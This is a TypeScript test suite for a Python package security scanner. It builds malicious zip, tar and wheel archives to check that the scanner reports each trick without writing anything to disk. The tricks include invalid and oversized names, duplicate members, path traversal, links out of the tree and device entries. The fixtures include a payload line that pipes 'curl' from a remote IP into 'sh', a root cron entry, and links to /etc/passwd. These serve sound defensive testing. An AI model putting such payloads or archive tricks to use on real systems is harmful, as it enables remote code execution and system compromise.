/**
 * Hostile member names and entry types through the real pipeline: invalid UTF-8, 64 KiB names, duplicated names,
 * absolute and climbing paths, links out of the tree, devices and FIFOs. The scanner never writes a member to disk:
 * the path cases run from an empty folder that is watched, and the places `..` and absolute names point at are
 * checked afterwards.
 *
 * Which duplicate pip installs: Python's zipfile and tarfile extract every entry in order, so the last copy is what
 * ends up on disk (checked below with Python itself). Both copies are scanned and the duplicate is a finding.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { defaultOptions } from '../../src/options.js';
import { exitCode, runScan } from '../../src/run.js';
import { buildTar, buildWheel, buildZip, gzip, tarHeader } from '../helpers/archive.js';
import { findingsOf, rawEntry, rawZip, rulesOf, scanMeasured } from './archive-builders.js';

const EVIL = 'import os; os.system("curl -s http://203.0.113.9/x | sh")\n';
const BENIGN = 'VALUE = 1\n';

const pad = (b: Buffer): Buffer => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
function paxRecord(k: string, v: string): string {
  const body = ` ${k}=${v}\n`;
  let len = Buffer.byteLength(body) + 2;
  while (String(len).length + Buffer.byteLength(body) !== len) len = String(len).length + Buffer.byteLength(body);
  return `${len}${body}`;
}
/** A tar header whose name is written as raw bytes (tarHeader writes strings). */
function rawNameHeader(name: Buffer, size: number): Buffer {
  const h = tarHeader('x', size, '0');
  h.fill(0, 0, 100);
  name.copy(h, 0, 0, Math.min(100, name.length));
  h.write('        ', 148, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  return h;
}
const python = (script: string, input?: Uint8Array): string => execFileSync('python3', ['-c', script], { input }).toString();

describe('invalid UTF-8 names', () => {
  test('zip: a name flagged UTF-8 that is not, and a cp437 name: both members scanned, the lie reported', async () => {
    const bad = rawEntry(Buffer.concat([Buffer.from('u/'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('.pth')]), EVIL);
    const latin = { ...rawEntry(Buffer.from('u/caf\xe9.py', 'latin1'), BENIGN), flags: 0 };
    const z = rawZip([bad, latin]);
    // Python's zipfile refuses the whole archive: a UTF-8 flagged name must decode
    expect(python('import zipfile,sys,io\ntry:\n  zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))\n  print("opened")\nexcept Exception as e:\n  print(type(e).__name__)', z).trim()).toBe('UnicodeDecodeError');
    const m = await scanMeasured('u-1.0.zip', z);
    expect(m.report.stats.files).toBe(2);
    expect(m.report.findings.some((f) => f.path.startsWith('u/') && f.path.endsWith('.pth') && f.rule === 'code.pth-exec')).toBe(true);
    expect(findingsOf(m.report, 'archive.corrupt').some((f) => /not valid UTF-8/.test(f.message))).toBe(true);
    expect(m.report.status).toBe('scanned');
    expect(m.exit).toBe(1); // flagged by the .pth
  });

  test('tar: invalid UTF-8 names (Python keeps the bytes) are scanned', async () => {
    const n1 = Buffer.concat([Buffer.from('t-1.0/'), Buffer.from([0xff]), Buffer.from('.pth')]);
    const n2 = Buffer.concat([Buffer.from('t-1.0/'), Buffer.from([0xfe]), Buffer.from('.py')]);
    const t = Buffer.concat([rawNameHeader(n1, EVIL.length), pad(Buffer.from(EVIL)), rawNameHeader(n2, BENIGN.length), pad(Buffer.from(BENIGN)), Buffer.alloc(1024)]);
    expect(python('import tarfile,sys,io\nt=tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read()))\nprint(len(t.getnames()))', t).trim()).toBe('2');
    const m = await scanMeasured('t-1.0.tar.gz', gzip(t));
    expect(m.report.stats.files).toBe(2);
    expect(m.report.findings.some((f) => f.path.endsWith('.pth') && f.rule === 'code.pth-exec')).toBe(true);
    expect(m.report.status).toBe('scanned');
    expect(m.exit).toBe(1);
  });
});

describe('64 KiB names', () => {
  const long = (prefix: string, suffix: string, total: number) => prefix + 'n'.repeat(total - prefix.length - suffix.length) + suffix;

  test('zip: a 65 535-byte name is read, its member scanned; a 64 KiB climbing name is reported, messages stay short', async () => {
    const name = long('l/', '.pth', 65535);
    const climb = '../'.repeat(21844) + 'x'; // 65 533 bytes
    const m = await scanMeasured('l-1.0.zip', rawZip([rawEntry(name, EVIL), rawEntry(climb, BENIGN)]));
    expect(m.report.stats.files).toBe(2);
    expect(m.report.findings.some((f) => f.path === name && f.rule === 'code.pth-exec')).toBe(true);
    const trav = findingsOf(m.report, 'archive.path-traversal');
    expect(trav).toHaveLength(1);
    expect(trav[0].message.length).toBeLessThan(400);
    expect(m.exit).toBe(1);
  });

  test('tar: 64 KiB names through a pax header and through a GNU long-name record', async () => {
    const paxName = long('t-1.0/', '.pth', 65536);
    const gnuName = long('t-1.0/g', '.pth', 65536);
    const pax = Buffer.from(paxRecord('path', paxName));
    const t = Buffer.concat([
      tarHeader('t-1.0/PaxHeader', pax.length, 'x'),
      pad(pax),
      tarHeader('t-1.0/short1', EVIL.length, '0'),
      pad(Buffer.from(EVIL)),
      tarHeader('././@LongLink', gnuName.length + 1, 'L'),
      pad(Buffer.from(gnuName + '\0')),
      tarHeader('t-1.0/short2', EVIL.length, '0'),
      pad(Buffer.from(EVIL)),
      Buffer.alloc(1024),
    ]);
    expect(python('import tarfile,sys,io\nt=tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read()))\nprint(sorted(len(n) for n in t.getnames()))', t).trim()).toBe('[65536, 65536]');
    const m = await scanMeasured('t-1.0.tar.gz', gzip(t));
    expect(m.report.stats.files).toBe(2);
    const hits = findingsOf(m.report, 'code.pth-exec').map((f) => f.path).sort();
    expect(hits).toEqual([paxName, gnuName].sort());
    expect(m.exit).toBe(1);
  });
});

describe('duplicated names with different content', () => {
  /** Extract with Python as pip does (zipfile / tarfile, every entry in order) and read back the one file. */
  function installedBy(kind: 'zip' | 'tar', d: Uint8Array, member: string): string {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dup-'));
    try {
      const open = kind === 'zip' ? 'zipfile.ZipFile(io.BytesIO(data)).extractall(d)' : 'tarfile.open(fileobj=io.BytesIO(data)).extractall(d)';
      python(`import zipfile,tarfile,io,sys\ndata=sys.stdin.buffer.read()\nd=${JSON.stringify(dir)}\n${open}`, d);
      return fs.readFileSync(path.join(dir, member), 'utf8');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }

  test('zip: the last copy is installed; both are scanned and the duplicate is evidence', async () => {
    const w = buildWheel('dup', '1', { 'dup/__init__.py': BENIGN }, { extra: [{ name: 'dup/__init__.py', data: EVIL }] });
    expect(installedBy('zip', w, 'dup/__init__.py')).toBe(EVIL);
    const m = await scanMeasured('dup-1-py3-none-any.whl', w);
    expect(m.report.stats.files).toBe(5);
    const dup = findingsOf(m.report, 'archive.duplicate-name');
    expect(dup).toHaveLength(1);
    expect(dup[0]).toMatchObject({ path: 'dup/__init__.py', score: 4 });
    expect(dup[0].message).toMatch(/different content: the one installed is the last/);
    expect(m.report.findings.some((f) => f.path === 'dup/__init__.py' && f.rule.startsWith('code.'))).toBe(true);
    expect(m.exit).toBe(1);
  });

  test('zip: the evil copy first and a benign one last is still scanned and reported', async () => {
    const z = buildZip([{ name: 'd/run.pth', data: EVIL }, { name: 'd/run.pth', data: 'import site\n' }]);
    const m = await scanMeasured('d-1.0.zip', z);
    expect(findingsOf(m.report, 'archive.duplicate-name').map((f) => f.score)).toEqual([4]);
    // the first copy's loader is found though the last copy is what gets installed
    expect(findingsOf(m.report, 'code.pth-exec').filter((f) => /os\.system/.test(f.message))).toHaveLength(1);
    expect(m.exit).toBe(1);
  });

  test('tar: `./x` and `x` are one file to tarfile: the last is installed, both are scanned', async () => {
    const t = buildTar([{ name: 'd-1.0/PKG-INFO', data: 'Name: d\n' }, { name: 'd-1.0/setup.py', data: BENIGN }, { name: './d-1.0/setup.py', data: EVIL }]);
    expect(installedBy('tar', t, 'd-1.0/setup.py')).toBe(EVIL);
    const m = await scanMeasured('d-1.0.tar.gz', gzip(t));
    expect(m.report.stats.files).toBe(3);
    expect(findingsOf(m.report, 'archive.duplicate-name').map((f) => [f.path, f.score])).toEqual([['./d-1.0/setup.py', 4]]);
    expect(m.exit).toBe(1);
  });
});

describe('paths and links that leave the tree: reported, never written', () => {
  let root: string;
  let watched: string;
  let cwd: string;
  const unique = `pss-adv-${process.pid}-${Date.now()}`;
  beforeAll(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'adv-root-'));
    watched = path.join(root, 'cwd');
    fs.mkdirSync(watched);
    cwd = process.cwd();
    process.chdir(watched);
  });
  afterAll(() => {
    process.chdir(cwd);
    fs.rmSync(root, { recursive: true, force: true });
  });
  /** Nothing appeared in the watched folder, next to it, or where the names point. */
  function expectNothingWritten(targets: string[]): void {
    expect(fs.readdirSync(watched)).toEqual([]);
    expect(fs.readdirSync(root).sort()).toEqual(['artifacts', 'cwd'].filter((n) => fs.existsSync(path.join(root, n))).sort());
    for (const t of targets) expect(fs.existsSync(t)).toBe(false);
    expect(fs.readdirSync(os.tmpdir()).filter((n) => n.includes(unique))).toEqual([]);
  }
  async function cli(file: string, data: Uint8Array) {
    const dir = path.join(root, 'artifacts');
    fs.mkdirSync(dir, { recursive: true });
    const p = path.join(dir, file);
    fs.writeFileSync(p, data);
    const options = defaultOptions();
    const report = await runScan([p], options);
    fs.rmSync(p);
    return { report, artifact: report.artifacts[0], exit: exitCode(report) };
  }

  const climbing = (u: string) => [
    `../${u}-a`,
    `../../${u}-b`,
    `./../${u}-c`,
    `p/../../${u}-d`,
    `..\\..\\${u}-e`,
    `${os.tmpdir()}/${u}-f`,
    `C:/${u}-g`,
    `//server/share/${u}-h`,
  ];
  const targetsOf = (u: string) => [path.join(root, `${u}-a`), path.join(os.tmpdir(), `${u}-b`), path.join(root, `${u}-c`), path.join(root, `${u}-d`), path.join(os.tmpdir(), `${u}-f`)];

  test('zip: absolute and climbing names (through the CLI path)', async () => {
    const names = climbing(unique);
    const { artifact, exit } = await cli('climb-1.0.zip', buildZip(names.map((n) => ({ name: n, data: EVIL }))));
    const trav = findingsOf(artifact, 'archive.path-traversal').map((f) => f.path).sort();
    const abs = findingsOf(artifact, 'archive.absolute-path').map((f) => f.path).sort();
    expect(trav).toEqual(names.slice(0, 5).sort());
    expect(abs).toEqual(names.slice(5).sort());
    expect(artifact.stats.files).toBe(names.length); // every one is still scanned
    expect(artifact.flagged).toBe(true);
    expect(exit).toBe(1);
    expectNothingWritten(targetsOf(unique));
  });

  test('tar: the same names, and a symlink out of the tree followed by a file written "through" it', async () => {
    const names = climbing(unique);
    const t = buildTar([
      ...names.map((n) => ({ name: n, data: EVIL })),
      { name: 'l-1.0/out', type: '2', linkname: os.tmpdir() + `/${unique}-dir` },
      { name: 'l-1.0/out/evil.pth', data: EVIL },
      { name: 'l-1.0/up', type: '2', linkname: '../../..' },
      { name: 'l-1.0/up/etc/cron.d/x', data: '* * * * * root sh\n' },
      { name: 'l-1.0/hard', type: '1', linkname: '../../etc/passwd' },
      { name: 'l-1.0/inside', type: '2', linkname: 'out/../PKG-INFO' },
    ]);
    const { artifact, exit } = await cli('l-1.0.tar.gz', gzip(t));
    expect(findingsOf(artifact, 'archive.path-traversal').map((f) => f.path).sort()).toEqual(names.slice(0, 5).sort());
    expect(findingsOf(artifact, 'archive.absolute-path').map((f) => f.path).sort()).toEqual(names.slice(5).sort());
    expect(findingsOf(artifact, 'archive.link-outside').map((f) => f.path).sort()).toEqual(['l-1.0/hard', 'l-1.0/out', 'l-1.0/up']);
    expect(artifact.findings.some((f) => f.path === 'l-1.0/out/evil.pth' && f.rule === 'code.pth-exec')).toBe(true);
    expect(artifact.status).toBe('scanned');
    expect(exit).toBe(1);
    expectNothingWritten([...targetsOf(unique), path.join(os.tmpdir(), `${unique}-dir`)]);
  });

  test('zip: symbolic links out of the tree (Unix mode), absolute and climbing', async () => {
    const z = rawZip([
      { ...rawEntry('z/abs', `${os.tmpdir()}/${unique}-zl`, 0), unixMode: 0o120777 },
      { ...rawEntry('z/climb', '../../../../etc/passwd', 0), unixMode: 0o120777 },
      { ...rawEntry('z/ok', 'abs', 0), unixMode: 0o120777 },
    ]);
    const m = await scanMeasured('z-1.0.zip', z);
    expect(findingsOf(m.report, 'archive.link-outside').map((f) => f.path).sort()).toEqual(['z/abs', 'z/climb']);
    expect(m.report.status).toBe('scanned');
    expect(m.exit).toBe(m.report.flagged ? 1 : 0);
    expectNothingWritten([path.join(os.tmpdir(), `${unique}-zl`)]);
  });
});

describe('device files and FIFOs in tar', () => {
  test('character and block devices and a FIFO, at the top and inside a tar nested in a wheel', async () => {
    const devs = (root: string) => [
      { name: `${root}/__init__.py`, type: '3' },
      { name: `${root}/disk`, type: '4' },
      { name: `${root}/pipe`, type: '6' },
    ];
    const t = buildTar([{ name: 'v-1.0/PKG-INFO', data: 'Name: v\n' }, ...devs('v-1.0')]);
    const m = await scanMeasured('v-1.0.tar.gz', gzip(t));
    expect(findingsOf(m.report, 'archive.device-entry').map((f) => f.path).sort()).toEqual(['v-1.0/__init__.py', 'v-1.0/disk', 'v-1.0/pipe']);
    expect(m.report.stats.files).toBe(1); // devices have no content to scan
    expect(m.report.status).toBe('scanned');
    expect(m.exit).toBe(m.report.flagged ? 1 : 0);

    const w = buildWheel('v', '1', { 'v/data.tar': buildTar(devs('inner')) });
    const mw = await scanMeasured('v-1-py3-none-any.whl', w);
    expect(findingsOf(mw.report, 'archive.device-entry').map((f) => f.path).sort()).toEqual(['v/data.tar!/inner/__init__.py', 'v/data.tar!/inner/disk', 'v/data.tar!/inner/pipe']);
    expect(rulesOf(mw.report)).toEqual(['archive.device-entry']);
  });
});
